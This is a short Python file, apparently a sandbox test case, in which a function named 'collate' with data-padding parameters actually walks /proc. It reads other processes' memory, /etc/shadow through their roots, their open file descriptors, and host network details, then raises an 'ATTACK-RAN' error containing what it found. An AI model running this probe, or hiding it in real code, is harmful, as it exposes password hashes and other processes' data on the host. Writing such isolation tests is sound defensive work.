# expect: runtime_error
# what: walks /proc: other processes, their memory, their roots, the host's kernel knobs
import os


def collate(batch, pad_id=0, pad_to_multiple_of=None, padding_side="right"):
    report = {"pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit())}
    for pid in report["pids"]:
        for probe in ("mem", "root/etc/shadow", "cwd", "fd"):
            path = f"/proc/{pid}/{probe}"
            try:
                if probe == "fd" or probe == "cwd":
                    report[path] = os.listdir(path)[:20]
                else:
                    with open(path, "rb") as f:
                        f.seek(4096 if probe == "mem" else 0)
                        report[path] = f.read(64)
            except OSError as e:
                report[path] = type(e).__name__
    for path in ("/proc/sys/kernel/hostname", "/sys/class/net", "/proc/net/tcp"):
        try:
            if os.path.isdir(path):
                report[path] = os.listdir(path)
            else:
                with open(path) as f:
                    report[path] = f.read(300)
        except OSError as e:
            report[path] = type(e).__name__
    raise RuntimeError(f"ATTACK-RAN {report!r}"[:3500])
